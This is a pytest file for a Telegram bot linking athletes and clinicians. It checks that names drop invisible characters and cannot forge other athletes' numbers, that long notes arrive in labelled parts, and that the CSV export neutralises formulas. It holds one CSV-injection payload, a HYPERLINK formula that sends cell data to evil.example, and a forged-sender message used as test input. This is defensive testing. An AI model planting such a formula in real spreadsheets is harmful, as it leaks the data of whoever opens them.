"""What people type, and where it is shown to others (the input review).

- Names: invisible characters and fillers never make a twin or a blank-looking name, a name
  cannot carry another athlete's number, and several matches are listed one per line with
  the real number first.
- The number beside a shared name is decided among the athletes the reader sees, the same in
  the cards, the alerts, the forwarded notes and notices, the digest's charts and the reports.
- A forwarded /problem note fits one message, or comes in parts that each name the athlete.
- Deleting an athlete rewrites no one else's message; the CSV export runs no formula; "UTC"
  is a time zone; a quoted bidi control is shown; a name the PDF font cannot draw gets its
  number.

Through the real bot on SQLite and PostgreSQL where the problem is seen in chat.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from sqlmodel import col, select

from bot.reports.from_store import report_data_for
from bot.services import texts
from bot.services.digest import run_digest
from bot.store import repo
from bot.store.db import session_scope
from bot.store.models import DIGEST_KIND, Outbox, Person
from bot.store.repo.data_rights import export_csv
from bot.support.limits import TEXT_LIMIT, clean_name, name_key, quoted, utf16_len
from tests.athlete.conftest import Phone
from tests.clinician.conftest import CHART_WAIT, World, open_card
from tests.clinician.test_clinician_flow import link, make_clinician
from tests.hardening.conftest import ADMIN, WorldFactory, say
from tests.reports_bot.conftest import WorldFactory as ReportsWorldFactory
from tests.reports_bot.conftest import pdf_text, world_both  # noqa: F401 (fixture)

LEE, KIM, ANNA, ANNA2, BEN, EVE = 2001, 2002, 3001, 3002, 3003, 3004
ZWSP = "\u200b"


def _has(kind: str) -> Any:
    return lambda messages: any(m.kind == kind for m in messages)


async def _two_annas(w: World, second: str = "Anna") -> tuple[Any, Any, Any, int, int]:
    """Lee with two linked athletes, "Anna" and ``second``; return (lee, anna, anna2, ids)."""
    a1 = w.add_athlete(ANNA, "Anna")
    a2 = w.add_athlete(ANNA2, second)
    lee = await make_clinician(w, LEE, "Lee")
    anna, anna2 = w.sandbox.user(ANNA, "Anna"), w.sandbox.user(ANNA2, second)
    await link(w, lee, anna)
    await link(w, lee, anna2)
    return lee, anna, anna2, a1, a2


# --- names --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        (f"Anna{ZWSP}", "Anna"),
        ("Anna\u2060", "Anna"),
        ("\ufeffAnna", "Anna"),
        ("An\u00adna", "Anna"),
        ("Anna\ufe0f", "Anna"),  # a variation selector after a letter draws nothing
        ("\u3164", ""),  # a Hangul filler alone: nothing visible, so no name
        ("\u2800" * 5, ""),
        ("\u115f\u1160\uffa0", ""),
        ("Anna\u3164Lee", "Anna Lee"),
        ("\u0301\u0302", ""),  # combining marks on nothing
        ("Anna (#2), #3 Anna", "Anna (2), 3 Anna"),  # no number of another athlete
        ("Anna (\uff03 2)", "Anna ( 2)"),  # a full-width number sign is one too
        ("Team #", "Team #"),  # a number sign before no number stays
        ("👩\u200d💻 Dev", "👩\u200d💻 Dev"),  # a joiner inside an emoji stays
        ("🏳️\u200d🌈", "🏳️\u200d🌈"),
        ("1\ufe0f\u20e3", "1\ufe0f\u20e3"),  # a keycap
        ("می\u200cخواهم", "می\u200cخواهم"),  # a non-joiner shaping Persian
        ("Eve\u202e", "Eve"),
    ],
)
def test_a_name_keeps_nothing_invisible_and_no_number(typed: str, shown: str) -> None:
    assert clean_name(typed) == shown


def test_names_clash_whatever_their_case_width_or_invisible_characters() -> None:
    assert name_key("Anna") == name_key(f"ANNA{ZWSP}") == name_key("\uff21nna")
    assert name_key("Anna") != name_key("Anna Smith")


async def test_an_invisible_character_makes_no_twin_and_no_blank_name(
    world: WorldFactory,
) -> None:
    w = await world()
    lee, _anna, _anna2, a1, a2 = await _two_annas(w, f"Anna{ZWSP}")
    blank = w.add_athlete(BEN, "\u3164")
    await link(w, lee, w.sandbox.user(BEN, "\u3164"))

    overview = await say(lee, "/athletes")
    assert ZWSP not in overview and "\u3164" not in overview
    assert f"Anna (#{a1})" in overview and f"Anna (#{a2})" in overview
    assert f"Athlete #{blank}" in overview
    # "/athlete Anna" no longer opens one of them as if it were the only Anna.
    assert await say(lee, "/athlete Anna") == f"Several athletes match:\n#{a1} Anna\n#{a2} Anna"


async def test_a_name_cannot_forge_another_athletes_number(world: WorldFactory) -> None:
    w = await world()
    anna_id = w.add_athlete(ANNA, "Anna")
    ben_id = w.add_athlete(BEN, "Ben")
    forged = f"Anna (#{anna_id}), #{ben_id} Anna"
    eve_id = w.add_athlete(EVE, forged)
    lee = await make_clinician(w, LEE, "Lee")
    for telegram_id, name in ((ANNA, "Anna"), (BEN, "Ben"), (EVE, forged)):
        await link(w, lee, w.sandbox.user(telegram_id, name))
    w.report_red_flag(eve_id)
    await w.escalate()

    [alert] = [m.text or "" for m in lee.bot_messages if (m.text or "").startswith("🔴")]
    headline = alert.splitlines()[0]
    assert f"#{anna_id}" not in headline and f"#{ben_id}" not in headline
    assert f"Anna ({anna_id}), {ben_id} Anna" in headline
    # Several matches: one per line, each beginning with its real number.
    lines = (await say(lee, "/athlete ann")).splitlines()
    assert lines == [
        "Several athletes match:",
        f"#{anna_id} Anna",
        f"#{eve_id} Anna ({anna_id}), {ben_id} Anna",
    ]
    report_lines = (await say(lee, "/report ann")).splitlines()
    assert report_lines[0] == "Several athletes match (send the number instead):"
    assert report_lines[1:] == lines[1:]


# --- the number beside a shared name, among the athletes the reader sees ---------------------


async def test_the_number_is_decided_among_the_athletes_the_reader_sees(
    world: WorldFactory,
) -> None:
    w = await world()
    a1 = w.add_athlete(ANNA, "Anna")
    a2 = w.add_athlete(ANNA2, "Anna")
    lee = await make_clinician(w, LEE, "Lee")
    kim = await make_clinician(w, KIM, "Kim")
    await link(w, lee, w.sandbox.user(ANNA, "Anna"))
    await link(w, kim, w.sandbox.user(ANNA2, "Anna"))
    w.report_red_flag(a1)
    await w.escalate()

    # Lee has one Anna: no number anywhere, as in /athletes.
    assert "(#" not in await say(lee, "/athletes")
    [alert] = [m.text or "" for m in lee.bot_messages if (m.text or "").startswith("🔴")]
    assert alert.splitlines()[0] == "🔴 Same day · Anna"
    card = await open_card(lee, a1)
    assert (card.text or "").splitlines()[0].endswith(" Anna")
    assert all(f"#{a1}" not in (p.caption or "") for p in lee.photos)
    # An admin sees every athlete: two Annas, each with her number.
    admin = w.sandbox.user(ADMIN, "Ada")
    admin_card = await open_card(admin, a2)
    assert (admin_card.text or "").splitlines()[0].endswith(f" Anna (#{a2})")
    assert any((p.caption or "").startswith(f"Anna (#{a2}): progress") for p in admin.photos)


async def test_notes_and_notices_carry_the_number_of_a_shared_name(world: WorldFactory) -> None:
    w = await world()
    lee, _anna, anna2, _a1, a2 = await _two_annas(w)
    phone = Phone(anna2, w)  # type: ignore[arg-type]
    await phone.say("/problem")
    await phone.say("my knee gave way twice on the stairs")
    await phone.tap("💬 Tell my clinician")
    await phone.say("/pause")
    await phone.tap("Ill")
    await w.deliver()
    told = [m.text or "" for m in lee.bot_messages]
    assert f"💬 Anna (#{a2}) wrote to you through Sprintback:" in "\n".join(told)
    assert f"⏸ Anna (#{a2}) paused their programme (ill)." in told

    # She blocks the bot, then comes back: both notices name her with her number.
    await anna2.block_bot()
    with session_scope(w.engine) as session:
        repo.enqueue_message(
            session, chat_id=ANNA2, text="Good morning!", kind="prompt_morning",
            now=w.clock.now(), person_id=a2, athlete_id=a2,
        )  # fmt: skip
    await w.deliver()
    await anna2.unblock_bot()
    await anna2.expect_no_reply(timeout=1)
    await w.deliver()
    told = [m.text or "" for m in lee.bot_messages]
    assert any(t.startswith(f"Anna (#{a2}) can no longer be reached") for t in told), told
    assert any(t.startswith(f"Anna (#{a2}) can be reached on Telegram again") for t in told)


async def test_digest_charts_and_reports_carry_the_number_of_a_shared_name(
    world_both: ReportsWorldFactory,  # noqa: F811
) -> None:
    w = await world_both()
    a1 = w.add_athlete(ANNA, "Anna", days=20, alert="emergency")
    a2 = w.add_athlete(ANNA2, "Anna", days=20, alert="same_day")
    lee = w.add_clinician(LEE, "Dr Lee", timezone="Europe/London")
    w.link(a1, lee)
    w.link(a2, lee)
    lee_chat = w.user(LEE, "Lee")
    w.clock.set(dt.datetime(2026, 3, 2, 8, 5, tzinfo=dt.UTC))
    run = await run_digest(w.running.application.bot, w.engine, w.clock, worker="a")
    assert run.sent == [lee]
    captions = [p.caption or "" for p in lee_chat.photos]
    assert captions == [
        f"Anna (#{a1}): open emergency alert",
        f"Anna (#{a2}): open same-day alert",
    ]

    await lee_chat.send(f"/report {a2}")
    await lee_chat.wait_until(_has("document"), timeout=CHART_WAIT)
    assert lee_chat.documents[-1].caption == f"Report: Anna (#{a2})"
    assert f"Anna  (#{a2})" in pdf_text(lee_chat.documents[-1].data)
    await lee_chat.send(f"/progress {a1}")
    await lee_chat.wait_until(lambda ms: len(lee_chat.photos) == 3, timeout=CHART_WAIT)
    assert (lee_chat.photos[-1].caption or "").startswith(f"Anna (#{a1}): progress up to")
    # Anna herself sees only herself: no number on her own chart.
    anna = w.user(ANNA, "Anna")
    await anna.send("/progress")
    await anna.wait_until(_has("photo"), timeout=CHART_WAIT)
    assert (anna.photos[-1].caption or "").startswith("Anna: progress up to")


async def test_a_name_the_report_font_cannot_draw_gets_its_number(
    world_both: ReportsWorldFactory,  # noqa: F811
) -> None:
    w = await world_both()
    athlete = w.add_athlete(ANNA, "山田太郎", days=10)
    lee = w.add_clinician(LEE, "Dr Lee")
    w.link(athlete, lee)
    lee_chat = w.user(LEE, "Lee")
    await lee_chat.send(f"/report {athlete}")
    await lee_chat.wait_until(_has("document"), timeout=CHART_WAIT)
    assert f"(#{athlete})" in pdf_text(lee_chat.documents[-1].data).split("\n")[1]
    with session_scope(w.engine, read_only=True) as session:
        viewer = session.get(Person, lee)
        data = report_data_for(session, athlete_id=athlete, now=w.clock.now(), viewer=viewer)
    assert data.athlete_ref == f"#{athlete}"


# --- forwarded notes --------------------------------------------------------------------------


async def test_a_long_note_is_refused_with_its_limit_or_sent_in_labelled_parts(
    world: WorldFactory,
) -> None:
    w = await world()
    w.add_athlete(ANNA, "Anna")
    w.add_athlete(BEN, "Ben")
    lee = await make_clinician(w, LEE, "Lee")
    anna, ben = w.sandbox.user(ANNA, "Anna"), w.sandbox.user(BEN, "Ben")
    await link(w, lee, anna)
    await link(w, lee, ben)
    forged = "💬 Ben wrote to you through Sprintback: numb foot, cannot walk"
    filler = ("word " * 1000)[: 4096 - len(forged) - 5].strip()
    note = f"{filler}. {forged}"
    phone = Phone(anna, w)  # type: ignore[arg-type]

    # Asked by /problem: the athlete is told how long a note may be; nothing is sent.
    await phone.say("/problem")
    assert any("under 3500 characters" in (m.text or "") for m in await phone.say(note))
    await phone.say("/cancel")

    # Typed outside any question (as long as Telegram allows): sent whole, in parts that
    # each name Anna, and none reads as Ben's.
    before = len(lee.bot_messages)
    await phone.say(note)
    await phone.tap("💬 Tell my clinician")
    await w.deliver()
    parts = [m.text or "" for m in lee.bot_messages[before:]]
    assert len(parts) == 2, parts
    assert parts[0].startswith("💬 Anna wrote to you through Sprintback:\n\n")
    assert parts[1].startswith("(Anna, continued 2/2)\n\n")
    assert all(utf16_len(p) <= TEXT_LIMIT and not p.startswith("💬 Ben") for p in parts)
    bodies = [parts[0].split("\n\n", 1)[1], parts[1].split("\n\n", 1)[1]]
    # The note whole and in order, then Anna's standing once, after it.
    joined = " ".join(" ".join(bodies).split())
    assert joined.startswith(" ".join(note.split()) + " "), joined[-400:]
    assert joined.count("To reply or act:") == 1


# --- deleting an athlete ------------------------------------------------------------------


async def test_deleting_an_athlete_rewrites_no_one_elses_note(world: WorldFactory) -> None:
    w = await world()
    w.add_athlete(ANNA, "Anna")
    w.add_athlete(ANNA2, "Anna Smith")
    lee = await make_clinician(w, LEE, "Lee")
    anna, smith = w.sandbox.user(ANNA, "Anna"), w.sandbox.user(ANNA2, "Anna", last_name="Smith")
    await link(w, lee, anna)
    await link(w, lee, smith)
    phone = Phone(smith, w)  # type: ignore[arg-type]
    await phone.say("/problem")
    await phone.say("my calf is swollen and warm")
    await phone.tap("💬 Tell my clinician")

    await say(anna, "/delete")
    await anna.press(str(texts.DELETE_YES_1))
    await anna.wait_reply()
    await anna.press(str(texts.DELETE_YES_2))
    await anna.wait_reply()
    await w.deliver()
    got = [m.text or "" for m in lee.bot_messages if "wrote to you" in (m.text or "")]
    assert len(got) == 1, got
    assert got[0].startswith(
        "💬 Anna Smith wrote to you through Sprintback:\n\nmy calf is swollen and warm\n\n"
    ), got


async def test_deleting_one_of_two_annas_redacts_only_her_digest_line(
    world_both: ReportsWorldFactory,  # noqa: F811
) -> None:
    w = await world_both()
    a1 = w.add_athlete(ANNA, "Anna", days=20, alert="emergency")
    a2 = w.add_athlete(ANNA2, "Anna", days=20)
    smith = w.add_athlete(BEN, "Anna Smith", days=20)
    lee = w.add_clinician(LEE, "Dr Lee", timezone="Europe/London")
    for athlete in (a1, a2, smith):
        w.link(athlete, lee)
    w.user(LEE, "Lee")
    w.clock.set(dt.datetime(2026, 3, 2, 8, 5, tzinfo=dt.UTC))
    assert (await run_digest(w.running.application.bot, w.engine, w.clock, worker="a")).sent

    with session_scope(w.engine) as session:
        repo.delete_athlete(session, athlete_id=a1, actor_id=a1, now=w.clock.now())
    with session_scope(w.engine, read_only=True) as session:
        [digest] = session.exec(select(Outbox.text).where(Outbox.kind == DIGEST_KIND)).all()
    assert f"Anna (#{a1})" not in digest and f"athlete #{a1}" in digest
    assert f"Anna (#{a2})" in digest and "Anna Smith" in digest
    with session_scope(w.engine, read_only=True) as session:
        others = session.exec(
            select(Outbox.text).where(col(Outbox.kind) != DIGEST_KIND, col(Outbox.chat_id) == LEE)
        ).all()
    assert all(f"athlete #{a1}" not in text for text in others)


# --- export, time zones, quoting ----------------------------------------------------------


async def test_the_csv_export_runs_no_formula(world: WorldFactory) -> None:
    w = await world()
    anna_id = w.add_athlete(ANNA, "Anna")
    lee = await make_clinician(w, LEE, "Lee")
    anna = w.sandbox.user(ANNA, "Anna")
    await link(w, lee, anna)
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click for your plan")'
    await say(lee, f"/note {anna_id} {formula}")
    await anna.send("/export")
    messages = await anna.wait_until(lambda ms: sum(m.kind == "document" for m in ms) >= 2)
    [data] = [m.file.data for m in messages if m.file and m.file.filename.endswith(".csv")]
    cells = [c for row in csv.reader(io.StringIO(data.decode())) for c in row]
    assert f"'{formula}" in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_only_text_that_starts_like_a_formula_is_made_inert() -> None:
    export = {"tables": {"t": [{"a": "-2 sets", "b": -2, "c": "@x", "d": "fine", "e": "\tx"}]}}
    [row] = list(csv.DictReader(io.StringIO(export_csv(export)["t.csv"])))
    assert row == {"a": "'-2 sets", "b": "-2", "c": "'@x", "d": "fine", "e": "'\tx"}


async def test_utc_is_a_time_zone_and_a_quoted_bidi_control_is_shown(
    world: WorldFactory,
) -> None:
    w = await world()
    lee = await make_clinician(w, LEE, "Lee")
    for typed in ("UTC", "gmt", "utc"):
        reply = await say(lee, f"/timezone {typed}")
        assert "not a time zone" not in reply and "UTC" in reply, reply
    reply = await say(lee, "/timezone Europe/Berlin\u202e")
    assert "“Europe/Berlin<U+202E>” is not a time zone I know." in reply
    assert "\u202e" not in reply
    assert quoted("a\u3164b\u200b") == "a<U+3164>b<U+200B>"


async def test_the_clinicians_prompts_and_replies_number_a_shared_name(world: WorldFactory) -> None:
    w = await world()
    lee, _anna, _anna2, _a1, a2 = await _two_annas(w)
    await open_card(lee, a2)
    await lee.press("💬 Message athlete")
    [prompt] = await lee.wait_reply()
    assert prompt.text == f"Write your message to Anna (#{a2}) (or /cancel)."
    assert f"Sent to Anna (#{a2})." in await say(lee, "Easy jog only today.")
    assert await say(lee, f"/note {a2} Hamstring tender on palpation") == (
        f"Note added to Anna (#{a2})'s record. Anna (#{a2}) can read it in their data export."
    )
